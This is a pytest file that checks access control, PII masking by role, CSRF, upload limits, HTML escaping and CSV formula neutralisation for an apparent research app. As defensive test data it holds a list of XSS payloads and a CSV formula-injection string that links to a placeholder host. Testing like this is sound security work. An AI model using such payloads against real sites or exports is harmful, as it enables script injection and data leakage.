"""Research on the web: every endpoint refuses an anonymous caller, a `read` key sees
pseudonyms and changes nothing, a viewer and an editor see pseudonyms on every page, REST
answer, CSV export and search result; researchers and admins see who is who. Forms carry
CSRF; untrusted transcript and note text is escaped; exports neutralise formulas."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from productops.core.db import transaction
from productops.core.models import Role
from productops.core.workspace import Workspace
from productops.research.participants import service as participants
from productops.research.repository import service as repo
from productops.research.schemas import (
    InsightCreate,
    NoteCreate,
    NoteUpdate,
    ParticipantUpdate,
    StudyCreate,
)
from productops.web.app import create_app
from tests.conftest import SHARED_DATA, api_key, sign_in
from tests.research.support import ZELDA, ZELDA_EMAIL, World, highlight_words, world

PHONE = "7946 0011"
FORMULA = '=HYPERLINK("http://x.invalid/?"&A1,"click")'
SECRETS = (ZELDA, "Zelda", ZELDA_EMAIL, PHONE, "Quartermain")
# POSTs that only read (a query in the body).
READING_POSTS = {"/api/v1/research/recruit/eligibility"}


@pytest.fixture
def seeded(workspace: Workspace) -> tuple[World, int, int]:
    w = world(workspace)
    hid = highlight_words(workspace, w.note_id, "the export to PDF is broken for us")
    with transaction(workspace.sessions) as s:
        insight = repo.create_insight(
            s, InsightCreate(title="PDF breaks", highlight_ids=[hid]), "t"
        )
        return w, hid, insight.id


def _api_routes(app: Any) -> list[tuple[str, str]]:
    """Every research operation of the API document (and the people erase/export)."""
    out = []
    for path, item in app.openapi()["paths"].items():
        if path.startswith("/api/v1/research") or path in ("/api/v1/people/{person_id}/export",):
            out += [(m.upper(), path) for m in item]
        elif path == "/api/v1/people/{person_id}":
            out += [(m.upper(), path) for m in item if m == "delete"]
    return out


def _url(path: str, w: World, hid: int, insight: int) -> str:
    ids = {
        "study_id": w.study_id, "note_id": w.note_id, "highlight_id": hid, "insight_id": insight,
        "participant_id": w.zelda, "person_id": w.zelda_person, "request_id": 1,
    }  # fmt: skip
    return re.sub(r"\{(\w+)\}", lambda m: str(ids[m.group(1)]), path)


def test_every_endpoint_refuses_anonymous_callers_and_read_keys_change_nothing(
    workspace: Workspace, seeded: tuple[World, int, int]
) -> None:
    w, hid, insight = seeded
    app = create_app(workspace)
    routes = _api_routes(app)
    assert len(routes) >= 35
    anonymous = TestClient(app)
    read = TestClient(app, headers={"Authorization": f"Bearer {api_key(workspace, 'read')}"})
    write = TestClient(app, headers={"Authorization": f"Bearer {api_key(workspace, 'write')}"})
    for method, path in routes:
        url = _url(path, w, hid, insight)
        if "search" in path:
            url += "?q=pdf"
        assert anonymous.request(method, url).status_code == 401, (method, path)
        got = read.request(method, url, json={})
        if path.startswith("/api/v1/people"):
            assert got.status_code == 403, (method, path)
        elif method == "GET" or path in READING_POSTS:
            assert got.status_code in (200, 422), (method, path, got.text[:200])
            assert not any(x in got.text for x in SECRETS), (method, path)
        else:
            assert got.status_code == 403, (method, path, got.status_code)
        recruiting = (
            (method != "GET" and "/participants" in path)
            or (method == "POST" and ("consent-texts" in path or "/screeners" in path))
            or "/recruit/invitations" in path
            or path.startswith("/api/v1/people")
        )
        if recruiting:
            assert write.request(method, url, json={}).status_code == 403, (method, path)


def test_participant_fields_are_for_researchers_and_admins(
    workspace: Workspace, seeded: tuple[World, int, int]
) -> None:
    w, _, _ = seeded
    app = create_app(workspace)
    pii_fields = {"name", "email", "phone", "account", "person_id"}
    for scope, sees in (("read", False), ("write", False), ("admin", True)):
        c = TestClient(app, headers={"Authorization": f"Bearer {api_key(workspace, scope)}"})
        one = c.get(f"/api/v1/research/participants/{w.zelda}").json()
        listed = c.get("/api/v1/research/participants").json()
        assert (pii_fields <= set(one)) is sees and (pii_fields <= set(listed[0])) is sees
        if sees:
            assert one["email"] == ZELDA_EMAIL and one["phone"] == "+44 20 7946 0011"
    for role, sees in (
        (Role.viewer, False),
        (Role.editor, False),
        (Role.researcher, True),
        (Role.admin, True),
    ):
        user = sign_in(workspace, role)
        for url in (
            "/research/participants",
            f"/research/participants/{w.zelda}",
            "/research/participants.csv",
            f"/research/notes/{w.note_id}",
            f"/research/studies/{w.study_id}",
            "/research?q=pdf+export",
            f"/api/v1/research/notes/{w.note_id}",
            f"/api/v1/research/notes/{w.note_id}/highlights",
            "/api/v1/research/search?q=pdf",
            "/api/v1/research/insights",
            "/api/v1/research/highlights?format=csv",
        ):
            text = user.client.get(url).text
            shown = [x for x in SECRETS if x in text]
            if not sees:
                assert shown == [], (role, url, shown)
            elif url.startswith(("/research/participants", "/research/notes/")):
                assert ZELDA in text, (role, url)


def test_forms_need_the_csrf_token_and_the_permission(
    workspace: Workspace, seeded: tuple[World, int, int]
) -> None:
    w, _, _ = seeded
    editor = sign_in(workspace, Role.editor)
    r = editor.client.post(f"/research/studies/{w.study_id}/notes", data={"title": "x"})
    assert r.status_code == 403
    assert (
        editor.post(
            f"/research/studies/{w.study_id}/notes", {"title": "ok", "body": "hi"}
        ).status_code
        == 303
    )
    assert (
        editor.post(f"/research/participants/{w.zelda}/contacts", {"kind": "invited"}).status_code
        == 403
    )
    viewer = sign_in(workspace, Role.viewer)
    assert viewer.post(f"/research/studies/{w.study_id}/notes", {"title": "x"}).status_code == 403
    researcher = sign_in(workspace, Role.researcher)
    assert (
        researcher.post(
            f"/research/participants/{w.zelda}/contacts", {"kind": "invited"}
        ).status_code
        == 303
    )
    # Overriding the cooldown that invitation started needs research.override (admins).
    again = researcher.post(
        f"/research/participants/{w.zelda}/contacts", {"kind": "invited", "override": "true"}
    )
    assert again.status_code == 403 and "research.override" in again.text
    assert (
        researcher.post(f"/research/participants/{w.zelda}/erase", {"confirm": "ERASE"}).status_code
        == 403
    )


# Payloads of each kind the assertions look for; the shared security lists add more when the
# checkout has them (a fresh clone does not).
XSS = [
    '<script>alert("x")</script>',
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><script>alert(document.domain)</script>',
    "javascript:alert(1)//<img src=x onerror=alert(2)>",
    "<iframe src=javascript:alert(1)></iframe>",
]


def _payloads() -> list[str]:
    folder = SHARED_DATA / "security"
    lines = list(XSS)
    if folder.is_dir():
        lines += (folder / "xss_payloads_quick.txt").read_text().splitlines()
        lines += (folder / "xss_polyglots.txt").read_text().splitlines()
    return [x for x in lines if x.strip()][:46]


def test_untrusted_transcript_and_note_text_is_escaped(
    workspace: Workspace, seeded: tuple[World, int, int]
) -> None:
    w, _, _ = seeded
    payloads = _payloads()
    body = "\n\n".join(f"Hacker: {p}" for p in payloads)
    with transaction(workspace.sessions) as s:
        note = repo.create_note(s, w.study_id, NoteCreate(title=payloads[1], body=body), "t")
        at = note.body.index(payloads[2])
        h = repo.create_highlight(s, note.id, at, at + len(payloads[2]), "t")
        repo.tag_highlight(s, h.id, [], "t", new_tags=["<b>tag</b>"])
        repo.create_insight(
            s, InsightCreate(title=payloads[3], body=payloads[4], highlight_ids=[h.id]), "t"
        )
    researcher = sign_in(workspace, Role.researcher)
    for url in (
        f"/research/notes/{note.id}",
        f"/research/studies/{w.study_id}",
        "/research/insights",
        "/research?q=alert",
    ):
        html = researcher.client.get(url).text
        assert (
            "<script>alert" not in html
            and "<img src=x" not in html.lower()
            and "<svg/onload" not in html.lower()
        )
        assert "<b>tag</b>" not in html


def test_transcript_upload_is_limited_and_a_bad_docx_is_named(
    workspace: Workspace, seeded: tuple[World, int, int], tmp_path: Path
) -> None:
    w, _, _ = seeded
    key = api_key(workspace, "write")
    c = TestClient(create_app(workspace), headers={"Authorization": f"Bearer {key}"})
    bad = c.post(
        f"/api/v1/research/studies/{w.study_id}/transcripts?filename=call.docx",
        content=b"PK\x03\x04 broken",
    )
    assert bad.status_code == 422 and "call.docx" in bad.text
    big = c.post(
        f"/api/v1/research/studies/{w.study_id}/transcripts?filename=a.txt",
        content=b"x" * (11 * 1024 * 1024),
    )
    assert big.status_code == 413
    ok = c.post(
        f"/api/v1/research/studies/{w.study_id}/transcripts?filename=call.vtt",
        content=b"WEBVTT\n\n00:00:01.000 --> 00:00:02.000\n<v Ana>Exports fail\n",
    )
    assert ok.status_code == 201 and ok.json()["speakers"][0]["label"] == "Ana"


def test_exports_neutralise_formulas(workspace: Workspace, seeded: tuple[World, int, int]) -> None:
    w, _, _ = seeded
    with transaction(workspace.sessions) as s:
        participants.update_participant(
            s, w.vault, w.other, ParticipantUpdate(segment=FORMULA), "t"
        )
        repo.create_study(s, StudyCreate(title="+1+1 study"), "t")
    researcher = sign_in(workspace, Role.researcher)
    csv_text = (
        researcher.client.get("/research/participants.csv").text
        + researcher.client.get("/research/studies.csv").text
    )
    assert "'=HYPERLINK" in csv_text and "'+1+1 study" in csv_text
    assert not re.search(r"(^|,)(=HYPERLINK|\+1\+1)", csv_text, re.M)


def test_a_segment_too_long_to_store_is_refused_by_name(
    workspace: Workspace, seeded: tuple[World, int, int]
) -> None:
    """A segment longer than its column (50 characters) is refused naming the field, on the
    API and in a CSV import (row and column), never cut short or left to the database."""
    w, _, _ = seeded
    key = api_key(workspace, "admin")
    c = TestClient(create_app(workspace), headers={"Authorization": f"Bearer {key}"})
    long = "=" + "A" * 60
    r = c.patch(f"/api/v1/research/participants/{w.other}", json={"segment": long})
    assert r.status_code == 422 and r.json()["detail"][0]["loc"] == ["body", "segment"]
    csv_body = f"email,segment\nnew@example.com,{long}\n"
    r = c.post(
        "/api/v1/research/participants/import?filename=pool.csv",
        content=csv_body.encode(),
        headers={"Content-Type": "text/csv"},
    )
    assert r.status_code == 422
    assert "pool.csv" in r.text and "row 2" in r.text and "segment" in r.text, r.text
    page = sign_in(workspace, Role.researcher).client.get("/research/participants")
    assert "new@example.com" not in page.text


def test_titles_that_name_a_participant_are_masked_for_callers_without_pii(
    workspace: Workspace, seeded: tuple[World, int, int]
) -> None:
    """A researcher may title a note or a session with the participant's name; a viewer and
    an editor see the pseudonym there too (study page, note page, search results)."""
    w, _, _ = seeded
    with transaction(workspace.sessions) as s:
        repo.update_note(s, w.note_id, NoteUpdate(title=f"Call with {ZELDA}"), "t")
        session = repo.get_session(s, w.session_id)
        session.title = f"{ZELDA} onboarding"
    for role in (Role.viewer, Role.editor):
        c = sign_in(workspace, role).client
        for url in (
            f"/research/studies/{w.study_id}",
            f"/research/notes/{w.note_id}",
            "/research?q=export",
        ):
            html = c.get(url).text
            assert "Call with" in html or url.endswith("export") or "onboarding" in html, url
            assert not any(secret in html for secret in SECRETS), (role, url)
    researcher = sign_in(workspace, Role.researcher).client
    assert f"Call with {ZELDA}" in researcher.get(f"/research/studies/{w.study_id}").text
